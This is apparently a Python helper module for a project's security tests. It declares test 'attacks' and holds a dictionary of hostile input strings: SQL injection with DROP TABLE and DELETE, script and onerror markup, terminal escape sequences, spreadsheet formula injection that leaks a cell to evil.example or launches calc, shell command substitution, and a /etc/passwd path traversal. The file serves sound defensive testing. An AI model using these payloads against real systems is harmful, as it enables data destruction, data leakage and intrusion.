"""What the attacks share: how one is declared, what a hostile text looks like, and what may stand in an output."""
import pathlib
import re
import sys

sys.dont_write_bytecode = True  # the source tree stays as it is
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

ATTACKS = {}  # name: (function, whether it touches the data of a database and so runs on both engines)


def attack(function=None, *, engines=False):
    """Declares an attack. Its name stands in docs/security.md, beside the threat that it tries."""
    def declare(declared):
        ATTACKS[declared.__name__] = (declared, engines)
        return declared
    return declare(function) if function else declare


class World:
    """What an attack is handed: the build, the engine, and the score that it reports to."""

    def __init__(self, build, engine, score, name):
        self.build, self.engine, self.score, self.name = build, engine, score, name

    def check(self, what, condition, told=''):
        return self.score.check(f'{self.name} ({self.engine}): {what}', condition, told)

    def equal(self, what, got, expected):
        return self.score.equal(f'{self.name} ({self.engine}): {what}', got, expected)


# Texts that some reader takes for more than a text. Each is unlike the others without its marks, so that references made of them differ.
PAYLOADS = {
    'sql end': "sql1'); DROP TABLE document; --",
    'sql quotes': 'sql2" OR "1"="1\'; DELETE FROM sale; /*',
    'sql parameter': 'sql3 $1 ?1 :x @x %(x)s',
    'script': 'html1<script>alert(1)</script>',
    'attribute': 'html2"\'><img src=x onerror=alert(1)>&amp;&#39;',
    'comment': 'html3--><!-- <td></table>',
    'clear screen': 'esc1\x1b[2J\x1b[H\x1b[31;1m',
    'window title': 'esc2\x1b]0;owned\x07',
    'hyperlink': 'esc3\x1b]8;;http://evil.example\x1b\\here',
    'device string': 'esc4\x1bP$q"p\x1b\\\x1b_G\x1b\\',
    'eight-bit controls': 'esc5\x9b2J\x9d0;owned\x9c\x90',
    'bell and back': 'ctl1\x07\x08\x08\x08\x7f',
    'carriage return': 'ctl2 due 5,00\rpaid 0,00',
    'line feed': 'ctl3 one\ntwo\n\nthree',
    'tab': 'ctl4 a\tb\vc\fd',
    'other line ends': 'ctl5\u2028\u2029\x85end',
    'right to left': 'bidi1 \u202e00,1\u202c \u2066\u2069\u200e\u200f\u061c',
    'zero width': 'zero1\u200b\u200d\ufeff\u00ad',
    'formula': '=HYPERLINK("http://evil.example?"&A1;"x")',
    'formula plus': '+1+cmd|\' /C calc\'!A0',
    'formula minus': '-2+3+cmd|x',
    'formula at': '@SUM(1+9)*cmd|x',
    'formula after tab': '\t=1+1',
    'formula after return': '\r=2+2',
    'formula after apostrophe': "'=3+3",
    'cell ends': 'csv1;a,b\t"c";"\n=4+4;',
    'format': 'fmt1%s%n%1$s%999999s{0}',
    'shell': 'sh1$(touch pwned)`touch pwned`;|&',
    'path': '../../../../etc/passwd',
    'zero': 'nul1\x00after',
    'emoji': 'emo1👩‍👩‍👧 𝔘\U000e0041',
    'json': 'json1","admin":true,"\\u001b[2J"}',
}
# Acts on a terminal, or on how a person reads what stands beside: C0 but the line feed, DEL, C1, other line ends, direction of writing.
ACTING = re.compile('[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069]')


def acting(text):
    """What would act on a terminal, with its surroundings; empty when nothing does."""
    found = ACTING.search(text)
    return repr(text[max(0, found.start() - 60):found.end() + 60]) if found else ''

